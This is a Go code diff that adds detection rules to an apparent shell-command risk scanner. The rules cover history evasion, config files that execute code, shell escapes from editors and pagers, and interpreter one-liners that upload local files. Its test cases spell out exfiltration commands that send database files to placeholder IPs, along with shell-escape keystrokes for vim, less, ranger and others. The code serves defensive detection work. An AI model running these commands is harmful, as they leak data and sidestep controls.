@@ -391,7 +391,12 @@ func checkEvasionMore(c *call, _ *config) *hit {
 			}
 		}
 	case "ln":
-		ops := operands(c, "-t -S --suffix --target-directory")
+		var ops []string
+		for _, a := range c.args() {
+			if a != "-s" && a != "-f" && a != "-sf" && a != "-fs" && a != "-snf" && a != "-sfn" && a != "--symbolic" && a != "--force" {
+				ops = append(ops, a)
+			}
+		}
 		if len(ops) == 2 && normPath(ops[0]) == "/dev/null" && (isHistoryFile(ops[1]) || strings.HasSuffix(ops[1], "_history")) {
 			return hitf(c, 0, "links the shell history to /dev/null so commands are not recorded")
 		}
@@ -727,6 +732,7 @@ var effectRules3 = []*rule{
 			"cat > /tmp/n.conf <<EOF\nevents {}\nhttp { server { listen 8090; root /srv/www; } }\nEOF\nnginx -t -c /tmp/n.conf",
 			"cat > /tmp/r.conf <<EOF\n*.* /var/log/all.log\nEOF\nrsyslogd -N1 -f /tmp/r.conf",
 			"printf 'load_module x;\\n' > notes.txt\ncat notes.txt",
+			"cat > t.md <<EOF\n| a | b |\n|---|---|\nEOF\npandoc t.md -o t.html",
 			"zic -d /tmp/zi rules.txt",
 		},
 		check: checkConfigExec,
@@ -756,7 +762,7 @@ var effectRules3 = []*rule{
 
 func init() { rules = append(rules, effectRules3...) }
 
-var configExecRe = regexp.MustCompile(`(?m)\bload_module\s|^\s*\|\s*\S|\s\^/|"type"\s*:\s*"command"|^\s*action(start|stop|ban|unban|check)\s*=|<script\s+path=|\bExecStart(Pre|Post)?=|^\s*root\s+/\s*;|[{;]\s*root\s+/\s*;|dav_methods\s+PUT`)
+var configExecRe = regexp.MustCompile(`(?m)\bload_module\s|^:0[^\n]*\n\s*\|\s*\S|:0[^\\\n]*\\n\s*\|\s*[/.~$\w]|(?i:\bcall\s+"system"\s+using)|\s\^/|"modules"\s*:\s*\[[^\]]*"type"\s*:\s*"command"|^\s*action(start|stop|ban|unban|check)\s*=|<script\s+path=|\bExecStart(Pre|Post)?=|^\s*root\s+/\s*;|[{;]\s*root\s+/\s*;|dav_methods\s+PUT`)
 
 // configReaders only show a file; they do not act on it.
 var configReaders = set("cat", "less", "more", "head", "tail", "grep", "rg", "wc", "ls", "stat", "file", "diff", "vim", "vi", "nano",
@@ -865,6 +871,140 @@ func checkTakeOwnership(c *call, _ *config) *hit {
 	case "cp":
 		if hasFlag(c, "", "--attributes-only") && (hasFlag(c, "", "--preserve") || hasFlag(c, "a")) {
 			return hitf(c, 0, "copies a file's owner and mode bits onto another file")
+		}
+	}
+	return nil
+}
+
+// shellKeys are documented keystrokes that open a shell from an
+// interactive program; typed on the line after the program they escape it.
+var shellKeys = map[string][]string{
+	"ranger": {"S", ":shell bash", ":shell sh"},
+	"ncdu":   {"b"},
+	"vim":    {":sh", ":shell", ":!sh", ":!bash"},
+	"vi":     {":sh", ":shell", ":!sh", ":!bash"},
+	"nvim":   {":sh", ":terminal", ":!sh"},
+	"less":   {"!sh", "!bash", "v"},
+	"more":   {"!sh", "!bash"},
+	"man":    {"!sh", "!bash"},
+	"mc":     {"^o"},
+	"nnn":    {"!"},
+	"lf":     {"w"},
+	"htop":   {},
+}
+
+// effectRules4: keystrokes and options that open a shell or run code
+// from programs that are not shells, and interpreter code that sends a
+// local file to a URL.
+var effectRules4 = []*rule{
+	{
+		ID: "program-shell", Class: "shell escape", Sev: high,
+		Msg: "opens a shell from inside another program",
+		Must: []string{
+			"ranger\nS",
+			"ncdu /var\nb",
+			"tmux -c bash",
+			"nano -s /bin/bash notes.txt",
+			"dvips -R0 paper.dvi",
+			"groff -U -Tascii doc.ms",
+			"openvt -s -- ./run.sh",
+		},
+		MustNot: []string{
+			"ranger --version",
+			"ncdu -o report.json /var",
+			"tmux new -s build",
+			"nano -s aspell notes.txt",
+			"dvips -o paper.ps paper.dvi",
+			"groff -Tascii doc.ms",
+		},
+		check: checkProgramShell,
+	},
+	{
+		ID: "code-http-upload", Class: "exfiltration", Sev: high,
+		Msg: "runs interpreter code that reads a local file and sends it to a URL",
+		Must: []string{
+			`node -e 'require("fs").createReadStream("db.sqlite").pipe(require("https").request({host:"192.0.2.90",method:"PUT"}))'`,
+			`python3 -c 'import urllib.request as r; r.urlopen("http://192.0.2.91/in", open("notes.db","rb").read())'`,
+			`python3 -c 'import requests; requests.post("https://192.0.2.92/u", files={"f": open("dump.sql","rb")})'`,
+			`zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.93 9000; cat notes.txt >&$REPLY'`,
+		},
+		MustNot: []string{
+			`python3 -c 'import json; print(json.load(open("package.json"))["version"])'`,
+			`python3 -c 'import urllib.request as r; print(r.urlopen("https://example.org").read()[:100])'`,
+			`node -e 'require("https").get("https://example.org", r => r.pipe(process.stdout))'`,
+		},
+		check: checkCodeHTTPUpload,
+	},
+}
+
+func init() { rules = append(rules, effectRules4...) }
+
+func checkProgramShell(c *call, _ *config) *hit {
+	if keys, ok := shellKeys[c.name]; ok && c.depth == 0 && c.prev == nil && c.next == nil && len(keys) > 0 {
+		if nl := strings.IndexByte(c.a.text[c.end:], '\n'); nl >= 0 && strings.TrimSpace(c.a.text[c.start:c.start+strings.IndexByte(c.a.text[c.start:], '\n')+1]) != "" {
+			rest := c.a.text[c.end+nl+1:]
+			first := strings.TrimSpace(strings.SplitN(rest, "\n", 2)[0])
+			for _, k := range keys {
+				if first == k {
+					return hitf(c, 0, "types the key that opens a shell into "+c.name+" (a shell escape)")
+				}
+			}
+		}
+	}
+	switch c.name {
+	case "tmux":
+		if v, ok := optValue(c, "-c", ""); ok && isShell(progName(strings.TrimSpace(v))) && len(strings.Fields(v)) == 1 {
+			return hitf(c, 0, "makes tmux start an interactive shell (a shell escape)")
+		}
+	case "nano", "pico", "rnano":
+		if v, ok := optValue(c, "-s", "--speller"); ok && len(strings.Fields(v)) > 0 && isShell(progName(strings.Fields(v)[0])) {
+			return hitf(c, 0, "sets a shell as nano's spell checker, to start it from the editor (a shell escape)")
+		}
+	case "dvips":
+		for _, a := range c.args() {
+			if a == "-R0" {
+				return hitf(c, 0, "lets the document run shell commands through dvips (-R0)")
+			}
+		}
+	case "groff", "troff", "pic", "nroff", "gpic":
+		if hasFlag(c, "U", "--unsafe") {
+			return hitf(c, 0, "runs "+c.name+" in unsafe mode, letting its input run shell commands (-U)")
+		}
+	case "openvt":
+		if runnerCommand("openvt", c.argv) > 0 || argIn(c, "--") {
+			return hitf(c, 0, "starts a command on a new virtual console, outside the session")
+		}
+	}
+	return nil
+}
+
+var (
+	httpSendRe = regexp.MustCompile(`(?i)urlopen\s*\(\s*[^,()]+,|requests\.(post|put|patch)\s*\(|\bhttps?"?\)?\.request\s*\(|http\.request\s*\(|net::http\.post|fetch\s*\([^)]*method\s*:\s*['"](post|put)|curl_setopt|\.upload\s*\(|method\s*:\s*['"](put|post)`)
+	fileReadRe = regexp.MustCompile(`(?i)open\s*\(\s*["'][^"']+["']\s*,\s*["']r?b?["']|open\s*\(\s*["'][^"']+["']\s*\)\s*\.read|createreadstream\s*\(|readfilesync\s*\(|file_get_contents\s*\(\s*["'][^h]|file\.read\s*\(|io\.read\s*\(`)
+)
+
+func checkCodeHTTPUpload(c *call, _ *config) *hit {
+	if c.name == "ztcp" && len(c.argv) >= 3 && !hasFlag(c, "lac") && !isLocalHost(c.arg(1)) {
+		for _, o := range c.a.calls {
+			if o == c || o.start < c.start {
+				continue
+			}
+			for _, r := range o.redirs {
+				if strings.Contains(r.target, "REPLY") && (r.op == ">&" || r.op == ">") && !isShell(o.name) && o.name != "exec" {
+					if len(o.argv) > 1 || len(o.substs) > 0 || o.name == "cat" {
+						return hitf(o, 0, "sends local data to a remote host over a zsh TCP connection")
+					}
+				}
+			}
+		}
+		return nil
+	}
+	if !isInterp(c.name) {
+		return nil
+	}
+	for _, code := range interpCodeArgs(c) {
+		if fileReadRe.MatchString(code) && httpSendRe.MatchString(code) {
+			return c.rule()
 		}
 	}
 	return nil
